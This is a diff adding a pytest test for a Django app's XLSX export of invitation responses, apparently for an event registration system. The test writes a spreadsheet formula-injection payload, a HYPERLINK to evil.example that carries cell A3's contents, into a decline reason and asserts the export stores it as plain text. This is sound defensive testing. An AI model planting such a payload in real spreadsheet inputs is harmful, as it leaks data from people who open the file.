@@ -87,6 +87,18 @@ def test_export_xlsx_parses_back_with_answers_and_counts(klima_client, answered)
     assert count_rows["Industrial Green Tech"] == (1, 0, 1, 0, 0)
 
 
+def test_export_xlsx_shows_a_formula_typed_by_an_invitee_as_text(klima_client, answered):
+    from invitations.models import Invitation
+
+    Invitation.objects.filter(email="jonas.berg@example.org").update(
+        decline_reason='=HYPERLINK("https://evil.example/?"&A3,"Les mer")'
+    )
+    response = klima_client.get(BASE + "arrangement/%d/eksport.xlsx" % answered.pk)
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cells = [cell for row in sheet.iter_rows() for cell in row if "HYPERLINK" in str(cell.value)]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+
+
 @pytest.mark.parametrize(
     "path",
     [
